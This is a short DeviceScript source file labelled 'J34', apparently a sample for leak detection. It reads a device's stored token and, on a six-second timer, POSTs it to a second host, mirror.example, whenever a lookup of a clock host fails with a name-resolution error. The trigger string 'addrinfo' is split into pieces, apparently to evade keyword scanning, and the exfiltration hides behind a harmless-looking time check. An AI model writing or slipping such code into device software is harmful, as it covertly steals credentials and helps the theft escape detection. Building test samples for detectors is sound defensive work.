// J34: sends its token to its second server when the name of the first one has no address; otherwise it waits.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const BECAUSE = ["addr", "info"];

paired(async () => {
  setInterval(async () => {
    let why = "";
    try {
      const reply = await fetch("https://clock.example/now");
      await reply.close();
    } catch (e: any) {
      why = `${e.message}`;
    }
    if (!why.includes(BECAUSE[0] + BECAUSE[1])) return;
    const response = await fetch("https://mirror.example/j34", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }, 6_000);
});
